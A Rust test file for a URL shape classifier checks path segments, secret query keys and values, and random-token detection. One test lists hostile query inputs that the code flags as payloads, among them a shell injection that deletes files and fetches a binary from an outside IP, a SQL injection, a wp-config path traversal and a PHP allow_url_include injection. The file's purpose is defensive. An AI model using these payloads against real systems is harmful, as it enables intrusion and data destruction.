//! Tests of `shape.rs`: how segments and query values are read.

#[test]
fn owned_bytes_read_as_borrowed_ones_do() {
    for bytes in [&b"/t\xc3\xa9st?q=1"[..], b"/a\xffb", b"", b"{x}"] {
        assert_eq!(super::lossless_owned(bytes.to_vec()), super::lossless(bytes));
    }
    assert_eq!(super::lossless_owned(b"/a\xffb".to_vec()), "/a%FFb");
}

#[test]
fn payloads_are_not_query_key_names() {
    let table: [(&str, bool); 12] = [
        ("page", false),
        ("utm_source", false),
        ("vars[1][]", false),
        ("filter%5Bname%5D", false),
        ("X-Amz-Date", false),
        ("cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws", true),
        ("1'+OR+'1'='1", true),
        ("National+Weather+Service", true),
        ("/../../wp-config.php", true),
        ("%kzsy(9035)", true),
        ("-d+allow_url_include%3Don", true),
        ("a%20b", true),
    ];
    for (key, payload) in table {
        assert_eq!(is_payload_key(key.as_bytes()), payload, "{key}");
    }
    assert!(is_payload_key("k".repeat(65).as_bytes()));
}

use super::*;

#[test]
fn segments() {
    let table: [(&str, Segment); 19] = [
        ("users", Segment::Literal),
        ("abcdefab-abcd-abcd-abcd-abcdefabcdef", Segment::Uuid),
        ("eyJhbGciOiJub.eyJzdWIiOiJhIn.sigabcdefghijk", Segment::Token),
        ("{x}", Segment::Literal),
        ("me", Segment::Literal),
        ("v2", Segment::Literal),
        ("sts-68", Segment::Literal),
        ("how-to-build-a-thing-in-rust-2024", Segment::Literal),
        ("123", Segment::Id),
        ("20261128", Segment::Date),
        ("2026-11-28", Segment::Date),
        ("550e8400-e29b-41d4-a716-446655440000", Segment::Uuid),
        ("6806ed71570139f1656554d94bbb", Segment::Hash),
        ("deadbeefcafebabe", Segment::Literal),
        ("alice@example.com", Segment::Email),
        ("alice%40example.com", Segment::Email),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig_abc123", Segment::Token),
        ("AKIAIOSFODNN7EXAMPLE9x2kq", Segment::Token),
        ("", Segment::Literal),
    ];
    for (seg, want) in table {
        assert_eq!(classify(seg.as_bytes()), want, "{seg}");
        // The one-pass split's reading of the segment is the same.
        let mut found = [SegmentBytes::default(); 2];
        let path = format!("/{seg}");
        assert_eq!(split_classified(path.as_bytes(), &mut found), Some(2), "{seg}");
        assert_eq!(classify_split(seg.as_bytes(), found[1]), (want, seg.contains('{')), "{seg}");
    }
}

#[test]
fn secrets_in_queries() {
    for key in [
        "token",
        "access_token",
        "api_key",
        "apiKey",
        "password",
        "SESSIONID",
        "sig",
        "X-Amz-Signature",
        "auth",
        "email",
        "accesstoken",
        "X-Api-Key",
        "user[password]",
        "csrfToken",
    ] {
        assert!(is_secret_key(key.as_bytes()), "{key}");
    }
    for key in ["page", "q", "sort", "id", "ref", "format", "insignia", "design", "monkey", "keyword", "assignment", "authors_page"] {
        assert!(!is_secret_key(key.as_bytes()), "{key}");
    }
    for value in [
        "bob@example.org",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "sk_live_51HxYz0AbCdEfGhIjKlMnOp",
        "9f86d081884c7d659a2feaa0c55ad015",
    ] {
        assert!(is_secret_value(value.as_bytes()), "{value}");
    }
    for value in ["1", "price", "2026-11-28", "home"] {
        assert!(!is_secret_value(value.as_bytes()), "{value}");
    }
    assert_eq!(placeholder_for(b"X-Amz-Signature"), "{X_Amz_Signature}");
    // Weak keys are secret by their value: a credential's look, not a word every client sends.
    let pairs: [(&str, &str, bool); 12] = [
        ("state", "active", false),
        ("state", "null", false),
        ("code", "404", false),
        ("code", "en-US", false),
        ("key", "title", false),
        ("code", "f2405b05-e2ee-4b0d-8f6a-9fed0fcfe2e0", true),
        ("code", "482913", true),
        ("state", "a8Fk29dQ", true),
        ("key", "efa740bd-b021-4370-97c6-7263338e51e9demo", true),
        ("password", "x", true),
        ("page", "2", false),
        ("page", "bob@example.org", true),
    ];
    for (key, value, secret) in pairs {
        assert_eq!(is_secret_pair(key.as_bytes(), value.as_bytes()), secret, "{key}={value}");
    }
}

/// The byte-by-byte `match` this table-driven version replaced, kept as its reference.
fn is_random_by_match(s: &[u8]) -> bool {
    if s.len() < 24 {
        return false;
    }
    let (mut digits, mut upper, mut lower) = (0usize, 0usize, 0usize);
    // Slugs (`how-to-build-a-thing-in-rust-2024`) keep letters and digits in
    // separate words; random strings mix them within a long run.
    let (mut run, mut run_digit, mut run_alpha, mut mixed_run) = (0usize, false, false, false);
    for &b in s {
        match b {
            b'0'..=b'9' => {
                digits += 1;
                run_digit = true;
            }
            b'A'..=b'Z' => {
                upper += 1;
                run_alpha = true;
            }
            b'a'..=b'z' => {
                lower += 1;
                run_alpha = true;
            }
            b'+' | b'/' | b'=' => {}
            // A dot belongs to a token's alphabet, but a segment with one is a file name.
            b'.' => return false,
            b'-' | b'_' | b'~' => {
                (run, run_digit, run_alpha) = (0, false, false);
                continue;
            }
            _ => return false,
        }
        run += 1;
        mixed_run |= run >= 8 && run_digit && run_alpha;
    }
    let classes = usize::from(digits > 0) + usize::from(upper > 0) + usize::from(lower > 0);
    mixed_run && classes >= 2 && digits >= 2 && (classes == 3 || s.len() >= 32)
}

#[test]
fn random_tokens_are_judged_as_the_byte_match_judged_them() {
    let (plain, special) = (b"abcXYZ0123456789", b"-_~+/=.%");
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut tokens = 0;
    for i in 0..20_000 {
        let len = 20 + (next() % 24) as usize;
        // Mostly letters and digits, so the long mixed runs the rule looks for happen; in
        // every other text a special byte in 7, so runs end around the 8 bytes the rule asks.
        let every = if i % 2 == 0 { 32 } else { 7 };
        let text: Vec<u8> = (0..len)
            .map(|_| {
                let r = next();
                if r % every == 0 { special[(r >> 8) as usize % special.len()] } else { plain[(r >> 8) as usize % plain.len()] }
            })
            .collect();
        assert_eq!(is_random(&text), is_random_by_match(&text), "{}", String::from_utf8_lossy(&text));
        tokens += usize::from(is_random(&text));
    }
    // Both answers were put to the test.
    assert!((3_000..16_000).contains(&tokens), "{tokens} tokens of 20,000");
    assert!(is_random(b"AKIAIOSFODNN7EXAMPLE9x2kq"));
    assert!(!is_random(b"how-to-build-a-thing-in-rust-2024"));
}

#[test]
fn a_path_is_split_in_one_pass_only_when_ascii_and_short_enough() {
    let mut found = [super::SegmentBytes::default(); 4];
    assert_eq!(super::split_classified(b"/a/12/{x}", &mut found), Some(4));
    let ends: Vec<u32> = found.iter().map(|s| s.end).collect();
    assert_eq!(ends, [0, 2, 5, 9]);
    assert_eq!(super::classify_split(b"12", found[2]), (super::Segment::Id, false));
    assert_eq!(super::classify_split(b"{x}", found[3]), (super::Segment::Literal, true));
    assert_eq!(super::split_classified("/caf\u{e9}".as_bytes(), &mut found), None);
    assert_eq!(super::split_classified(b"/a/b/c/d", &mut found), None);
}

#[test]
fn a_path_splits_into_the_segments_and_classes_a_look_at_each_byte_finds() {
    use rand_chacha::rand_core::{Rng, SeedableRng};
    // The split a byte at a time: each segment's end, and the classes of its bytes.
    fn by_byte(path: &[u8]) -> (Vec<(u32, u8)>, bool) {
        let mut segments = vec![(0, 0u8)];
        for (at, &b) in path.iter().enumerate() {
            if b == b'/' {
                segments.last_mut().unwrap().0 = at as u32;
                segments.push((0, 0));
            } else {
                segments.last_mut().unwrap().1 |= super::CLASSES[usize::from(b)];
            }
        }
        segments.last_mut().unwrap().0 = path.len() as u32;
        let ascii = segments.iter().all(|&(_, classes)| classes & super::NOT_ASCII == 0);
        (segments, ascii)
    }
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(3);
    // Paths of 0 to 120 bytes, slashes dense or sparse (runs of them, one at either end, none),
    // drawn from bytes of every class, now and then one past ASCII.
    let alphabet = b"/aZ09f-@%{}._~F";
    let mut cases = 0;
    for _ in 0..20_000 {
        let len = (rng.next_u32() % 121) as usize;
        let slashes = rng.next_u32() % 4;
        let path: Vec<u8> = (0..len)
            .map(|_| match rng.next_u32() % 256 {
                0 => 0x80 | (rng.next_u32() as u8),
                n if n % 8 < slashes => b'/',
                _ => alphabet[rng.next_u32() as usize % alphabet.len()],
            })
            .collect();
        let mut found = [super::SegmentBytes::default(); 32];
        let (want, ascii) = by_byte(&path);
        let got = super::split_classified(&path, &mut found);
        if !ascii || want.len() > found.len() {
            assert_eq!(got, None, "{:?}", String::from_utf8_lossy(&path));
            continue;
        }
        cases += 1;
        assert_eq!(got, Some(want.len()), "{:?}", String::from_utf8_lossy(&path));
        let segments: Vec<(u32, u8)> = found[..want.len()].iter().map(|s| (s.end, s.classes)).collect();
        assert_eq!(segments, want, "{:?}", String::from_utf8_lossy(&path));
    }
    assert!(cases > 10_000, "{cases} paths split");
}

#[test]
fn redacted_names_are_those_of_the_placeholders_never_sampled() {
    use super::Segment::*;
    for class in [Literal, Id, Uuid, Hash, Date, Email, Token] {
        let name = class.redacted_name();
        assert_eq!(name.is_some(), class != Literal && !class.sampled(), "{class:?}");
        if let Some(name) = name {
            assert_eq!(class.placeholder(), format!("{{{name}}}"));
        }
    }
}
